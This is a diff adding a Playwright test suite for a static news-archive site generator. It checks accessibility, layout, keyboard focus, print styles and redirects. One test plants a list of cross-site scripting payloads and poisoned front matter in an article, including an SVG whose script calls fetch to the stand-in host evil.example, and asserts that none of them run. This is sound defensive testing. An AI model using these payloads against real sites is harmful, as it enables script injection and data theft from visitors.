@@ -1,0 +1,394 @@
+"""The sample archive in a real browser: what it shows, asks for, runs and lets everyone use."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any, Literal
+from urllib.parse import quote, urlsplit
+
+import pytest
+from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, Request
+
+from tests.sample import BASE, build_sample, copy_sample
+from tests.sites import Site, write_site
+
+PAGES = {
+    "home": "",
+    "an article with a table and a picture": "2026/11/18/gate-holds/",
+    "an article with a figure in its text": "2023/08/12/halfway-over-the-linnow/",
+    "an article with code and a footnote": "2024/03/02/reading-the-surge/",
+    "an article with definitions and details": "2023/04/15/how-the-council-is-elected/",
+    "an article in another script": quote("2023/11/25/библиотека/"),
+    "a tag": "tags/sea-level/",
+    "a section": "sections/politics/",
+    "an author": "authors/hanna-wexcombe/",
+    "a dateline": "datelines/washington-d-c/",
+    "a year": "2022/",
+    "a month": "2022/11/",
+    "a day": "2022/11/05/",
+    "the archive": "archive/",
+    "the tags": "tags/",
+    "the sections": "sections/",
+    "the latest news": "latest.html",
+    "no page": "404.html",
+}
+_RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22a", "wcag22aa"]
+_WIDTHS = (320, 360, 1280)
+_SCHEMES: tuple[Literal["light", "dark"], ...] = ("light", "dark")
+# What shifts while a page loads. A shift soon after input is not counted; here there is none.
+# https://developer.mozilla.org/docs/Web/API/LayoutShift
+_WATCH_SHIFTS = """
+window.shifted = 0;
+new PerformanceObserver((list) => {
+  for (const each of list.getEntries()) window.shifted += each.value;
+}).observe({ type: "layout-shift", buffered: true });
+"""
+
+
+@dataclass(slots=True)
+class Visit:
+    """A page open in the browser, and all it complained of and asked for."""
+
+    page: Page
+    root: str
+    scripted: bool = True
+    complaints: list[str] = field(default_factory=list)
+    requests: list[str] = field(default_factory=list)
+
+    def go(self, path: str) -> None:
+        """Open a page of the site, and wait until its scripts have done their work."""
+        self.page.goto(self.root + path)
+        if self.scripted:
+            self.page.locator(".latest > p").wait_for(state="detached")
+
+    def strangers(self) -> list[str]:
+        """Return the requests that left the site."""
+        return [url for url in self.requests if not url.startswith(self.root)]
+
+
+@pytest.fixture(scope="session")
+def public(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Return the sample archive, built."""
+    site = copy_sample(tmp_path_factory.mktemp("browser") / "site")
+    build_sample(site)
+    return site.folder / "public"
+
+
+@contextmanager
+def visiting(browser: Browser, root: str, **options: Any) -> Iterator[Visit]:
+    """Open a window of its own; ``options`` are Playwright's for a context."""
+    options = {"viewport": {"width": 1280, "height": 900}, **options}
+    with browser.new_context(**options) as context:
+        page = context.new_page()
+        visit = Visit(page=page, root=root, scripted=options.get("java_script_enabled", True))
+
+        def complain(message: ConsoleMessage) -> None:
+            if message.type in {"error", "warning"}:
+                visit.complaints.append(message.text)
+
+        def ask(request: Request) -> None:
+            visit.requests.append(request.url)
+
+        page.on("console", complain)
+        page.on("pageerror", lambda error: visit.complaints.append(str(error)))
+        page.on("request", ask)
+        yield visit
+
+
+@pytest.mark.parametrize("name", PAGES)
+def test_a_page_is_sound_in_both_schemes_at_all_widths(
+    name: str, public: Path, browser: Browser, serve: Callable[..., str], axe_source: str
+) -> None:
+    with visiting(browser, serve(public, BASE)) as visit:
+        visit.go(PAGES[name])
+        for width in _WIDTHS:
+            visit.page.set_viewport_size({"width": width, "height": 800})
+            assert visit.page.evaluate("document.documentElement.scrollWidth") <= width, width
+            for scheme in _SCHEMES:
+                visit.page.emulate_media(color_scheme=scheme)
+                assert _violations(visit.page, axe_source) == [], (width, scheme)
+        assert visit.complaints == []
+        assert visit.strangers() == []
+
+
+def _violations(page: Page, axe_source: str) -> list[str]:
+    """Return what axe-core finds: rule, and the first element that breaks it."""
+    # Handed over by the debugging protocol, which the page's policy does not govern.
+    if not page.evaluate("'axe' in window"):
+        page.evaluate(axe_source)
+    found = page.evaluate("rules => axe.run(document, {runOnly: {type: 'tag', values: rules}})", _RULES)
+    return [f"{each['id']}: {each['nodes'][0]['html']}" for each in found["violations"]]
+
+
+def test_nothing_moves_while_a_page_loads(public: Path, browser: Browser, serve: Callable[..., str]) -> None:
+    root = serve(public, BASE)
+    for width in (360, 1280):
+        with visiting(browser, root, viewport={"width": width, "height": 900}) as visit:
+            visit.page.add_init_script(_WATCH_SHIFTS)
+            for name, path in PAGES.items():
+                visit.go(path)
+                visit.page.wait_for_timeout(100)
+                assert visit.page.evaluate("window.shifted") == 0, (name, width)
+
+
+def test_the_masthead_shows_the_readers_date(
+    public: Path, browser: Browser, serve: Callable[..., str]
+) -> None:
+    with visiting(browser, serve(public, BASE), timezone_id="Asia/Baku") as visit:
+        visit.page.clock.set_fixed_time("2026-11-20T21:00:00Z")
+        visit.go("")
+        shown = visit.page.locator(".today").inner_text()
+    assert re.fullmatch("Saturday,? 21 November 2026", shown)
+
+
+def test_the_latest_box_of_an_article_is_filled_with_the_newest_headlines(
+    public: Path, browser: Browser, serve: Callable[..., str]
+) -> None:
+    with visiting(browser, serve(public, BASE)) as visit:
+        visit.go("latest.html")
+        newest = visit.page.locator("main li a").all_inner_texts()
+        visit.go("2022/11/05/delegation-in-washington/")
+        box = visit.page.get_by_role("complementary", name="Latest news")
+        assert box.locator("li a").all_inner_texts() == newest
+        assert box.locator("li time").first.inner_text() == "18 November 2026"
+        assert len(newest) == 10
+        visit.go("2026/11/18/gate-holds/")
+        assert box.locator("li a").all_inner_texts() == newest[1:]
+        box.locator("li a").first.click()
+        assert visit.page.locator("h1").inner_text() == newest[1]
+
+
+def test_without_script_every_page_can_be_read_and_the_latest_box_is_a_link(
+    public: Path, browser: Browser, serve: Callable[..., str]
+) -> None:
+    root = serve(public, BASE)
+    with visiting(browser, root, java_script_enabled=False) as visit:
+        visit.go("2022/11/05/delegation-in-washington/")
+        link = visit.page.get_by_role("complementary", name="Latest news").get_by_role("link")
+        assert link.all_inner_texts() == ["See the front page"]
+        assert visit.page.locator(".body p").count() == 7
+        link.click()
+        assert visit.page.url == root
+        assert visit.page.locator(".today").inner_text() == ""
+        assert visit.page.locator(".card").count() > 8
+
+
+def test_the_latest_box_stays_a_link_when_the_list_cannot_be_had(
+    public: Path, browser: Browser, serve: Callable[..., str]
+) -> None:
+    with visiting(browser, serve(public, BASE)) as visit:
+        visit.page.route("**/latest.html", lambda route: route.abort())
+        visit.page.goto(f"{visit.root}2022/11/05/delegation-in-washington/")
+        box = visit.page.get_by_role("complementary", name="Latest news")
+        assert box.get_by_role("link").all_inner_texts() == ["See the front page"]
+
+
+def test_an_old_address_leads_to_the_article(
+    public: Path, browser: Browser, serve: Callable[..., str]
+) -> None:
+    root = serve(public, BASE)
+    with visiting(browser, root) as visit:
+        # The redirect names the published address, which this machine does not serve.
+        visit.page.route("https://example.org/archive/**", lambda route: _from(route, root))
+        visit.page.goto(f"{root}specials/flood/")
+        visit.page.wait_for_url("**/2024/02/12/saltmere-flood/")
+        assert "Saltmere" in visit.page.locator("h1").inner_text()
+        assert visit.complaints == []
+
+
+def _from(route: Any, root: str) -> None:
+    route.fulfill(response=route.fetch(url=route.request.url.replace("https://example.org/archive/", root)))
+
+
+def test_a_page_that_is_not_there_shows_404_with_links_that_work(
+    public: Path, browser: Browser, serve: Callable[..., str]
+) -> None:
+    root = serve(public, BASE)
+    with visiting(browser, root) as visit:
+        visit.go("2019/not/here/")
+        assert visit.page.locator("h1").inner_text() == "Page not found"
+        assert (
+            visit.page.evaluate("getComputedStyle(document.querySelector('.masthead')).textAlign") == "center"
+        )
+        visit.page.locator("main").get_by_role("link", name="archive").click()
+        assert visit.page.url == f"{root}archive/"
+
+
+def test_a_keyboard_reaches_the_news_first_and_sees_where_it_is(
+    public: Path, browser: Browser, serve: Callable[..., str]
+) -> None:
+    with visiting(browser, serve(public, BASE)) as visit:
+        visit.go("2026/11/18/gate-holds/")
+        visit.page.keyboard.press("Tab")
+        skip = visit.page.get_by_role("link", name="Skip to the news")
+        assert skip.evaluate("each => each === document.activeElement")
+        assert skip.evaluate("each => getComputedStyle(each).clipPath") == "none"
+        visit.page.keyboard.press("Enter")
+        visit.page.keyboard.press("Tab")
+        focused = "document.activeElement"
+        assert visit.page.evaluate(f"document.querySelector('main').contains({focused})")
+        assert visit.page.evaluate(f"getComputedStyle({focused}).outlineStyle") == "solid"
+
+
+def test_a_table_wider_than_the_page_can_be_scrolled_by_keyboard(
+    tmp_path: Path, browser: Browser, serve: Callable[..., str], axe_source: str
+) -> None:
+    cells = " | ".join(f"Constituency {number}" for number in range(12))
+    table = f"| {cells} |\n|{'---|' * 12}\n| {cells} |\n"
+    site = _site_with(tmp_path, table)
+    with visiting(
+        browser, serve(site.folder / "public", BASE), viewport={"width": 360, "height": 800}
+    ) as visit:
+        visit.go("2022/11/05/story/")
+        assert visit.page.evaluate("document.documentElement.scrollWidth") == 360
+        assert visit.page.locator(".body table").get_attribute("tabindex") == "0"
+        assert _violations(visit.page, axe_source) == []
+
+
+def test_print_shows_the_story_and_where_it_stands_and_no_menus(
+    public: Path, browser: Browser, serve: Callable[..., str]
+) -> None:
+    with visiting(browser, serve(public, BASE)) as visit:
+        visit.page.emulate_media(media="print", color_scheme="dark")
+        visit.go("2026/11/18/gate-holds/")
+        for name in (".menu", ".indexes", ".skip", ".latest", ".around", ".imprint", ".today"):
+            assert not visit.page.locator(name).is_visible(), name
+        for name in (".nameplate", "h1", ".byline", ".lead img", ".body", ".permalink"):
+            assert visit.page.locator(name).is_visible(), name
+        assert visit.page.evaluate("getComputedStyle(document.documentElement).color") == "rgb(0, 0, 0)"
+        assert (
+            visit.page.evaluate("getComputedStyle(document.documentElement).backgroundColor")
+            == "rgb(255, 255, 255)"
+        )
+
+
+def test_no_name_of_a_place_gets_a_letter_of_another_language(
+    public: Path, browser: Browser, serve: Callable[..., str]
+) -> None:
+    with visiting(browser, serve(public, BASE)) as visit:
+        visit.go("2022/11/19/skerrin-az/")
+        shown = visit.page.locator("article").inner_text()
+        assert "SKERRİN" not in shown
+        assert "BUSİNESS" not in shown
+        assert "BUSINESS" in shown
+
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<script src='https://evil.example/x.js'></script>",
+    "<img src=x.svg onerror=alert(1) onload=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src='javascript:alert(1)'></iframe>",
+    "<iframe src='https://evil.example/'></iframe>",
+    "<details open ontoggle=alert(1)><summary>Open</summary>Text</details>",
+    "<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) tabindex=0 autofocus>Paragraph</p>",
+    "<a href='javascript:alert(1)'>link</a> <a href='JaVa&#10;Script:alert(1)'>link</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>link</a>",
+    "[link](javascript:alert(1)) [link](<java\tscript:alert(1)>) [link](vbscript:x) ![x](javascript:alert(1))",
+    '![A picture](x.svg){: onload="alert(1)" onerror="alert(1)" }',
+    'Words.{: onclick="alert(1)" style="position:fixed;inset:0" }',
+    '## Heading {: onmouseover="alert(1)" id="latest" }',
+    "<form action='https://evil.example/'><input autofocus onfocus=alert(1)><button>Go</button></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href='https://evil.example/'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example/y.css';</style>",
+    "<object data=x.svg></object><embed src=x.svg>",
+    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
+    "<div data-from='https://evil.example/'>box</div>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "</div></article></main><script>alert(1)</script>",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    "Note[^1].\n\n[^1]: <img src=q onerror=alert(1)>",
+)
+_SVG = """\
+<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="parent.alert(1)">
+<script>parent.alert(1); fetch("https://evil.example/")</script><rect width="40" height="30"/></svg>
+"""
+
+
+def test_an_article_runs_no_script_and_asks_no_other_host(
+    tmp_path: Path, browser: Browser, serve: Callable[..., str]
+) -> None:
+    site = _site_with(tmp_path, "\n\n".join(PAYLOADS), front=_POISON)
+    ran: list[str] = []
+
+    def dismiss(dialog: Dialog) -> None:
+        ran.append(dialog.message)
+        dialog.dismiss()
+
+    root = serve(site.folder / "public", BASE)
+    # First as it is, then without the policy, which is the second of two walls and hides holes in the first.
+    for bypass in (False, True):
+        with visiting(browser, root, bypass_csp=bypass) as visit:
+            visit.page.on("dialog", dismiss)
+            visit.page.add_init_script("window.alert = (text) => { window.ran = text; };")
+            for path in (
+                "2022/11/05/story/",
+                "",
+                "2022/11/05/",
+                "authors/",
+                "tags/",
+                "datelines/",
+                "latest.html",
+            ):
+                visit.go(path)
+                assert visit.page.url == root + path
+                for link in visit.page.locator("main a, .body *").all():
+                    link.dispatch_event("mouseover")
+                    link.dispatch_event("focus")
+                    if not (link.get_attribute("href") or "").startswith(("/", "http")):
+                        link.dispatch_event("click")
+                assert visit.page.evaluate("window.ran") is None, path
+                assert not visit.page.evaluate(_HANDLERS), path
+            assert visit.strangers() == []
+            assert visit.complaints == []
+    assert ran == []
+
+
+_HANDLERS = """
+[...document.querySelectorAll("*")].filter((each) =>
+  [...each.attributes].some((one) => one.name.startsWith("on") || /^\\s*(javascript|data|vbscript):/i.test(one.value))
+).map((each) => each.outerHTML)
+"""
+_POISON = """\
+title: '</title><script>alert(1)</script>"><img src=x onerror=alert(1)>'
+author: '"><script>alert(1)</script>'
+dateline: "'><img src=x onerror=alert(1)>"
+tags: ['<script>alert(1)</script>', '"onmouseover="alert(1)']
+section: '<svg onload=alert(1)>'
+summary: '</script><script>alert(1)</script>'
+image: {file: x.svg, alt: '"><script>alert(1)</script>', caption: '<img src=x onerror=alert(1)>', credit: '<b onclick=alert(1)>'}
+source: {name: '<script>alert(1)</script>', url: 'https://example.org/'}
+"""
+
+
+def _site_with(folder: Path, body: str, *, front: str = "title: A story\n") -> Site:
+    """Build a site with an article of this body, and a plain one."""
+    site = write_site(folder / "site", "")
+    site.write("content/plain.md", f"---\ntitle: Plain\ndate: 2022-11-04\n{_REST}---\nWords.\n")
+    site.write(
+        "content/story.md",
+        f"---\n{front}date: 2022-11-05\n{_REST if 'author' not in front else ''}---\n\n{body}\n",
+    )
+    site.write("content/x.svg", _SVG)
+    build_sample(site)
+    return site
+
+
+_REST = "author: Ana Ruiz\ndateline: Baku\n"
+
+
+@pytest.mark.parametrize("what", ["html", "css"])
+def test_the_w3c_checker_finds_no_error(
+    what: str, public: Path, vnu: Callable[..., list[dict[str, Any]]]
+) -> None:
+    # A folder is walked by the checker itself; what is not of the kind in question is left out.
+    options = ["--errors-only", *(["--css"] if what == "css" else ["--skip-non-html"])]
+    messages = vnu(*options, public / "style.css" if what == "css" else public)
+    assert [(urlsplit(each["url"]).path, each.get("lastLine"), each["message"]) for each in messages] == []
